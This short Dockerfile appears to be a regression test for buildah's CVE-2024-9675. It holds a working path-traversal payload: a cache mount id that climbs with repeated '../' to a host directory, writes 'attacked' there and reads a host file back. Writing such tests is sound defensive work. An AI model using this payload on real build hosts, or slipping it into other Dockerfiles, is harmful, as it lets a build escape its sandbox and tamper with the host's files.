# The name of a cache climbs to a directory of the machine (buildah's CVE-2024-9675).
ARG BASE
FROM ${BASE}
ARG HOST_DIRECTORY
RUN --mount=type=cache,id=../../../../../../../../../../../../../${HOST_DIRECTORY},target=/cache echo attacked > /cache/file && cat /cache/deep/file
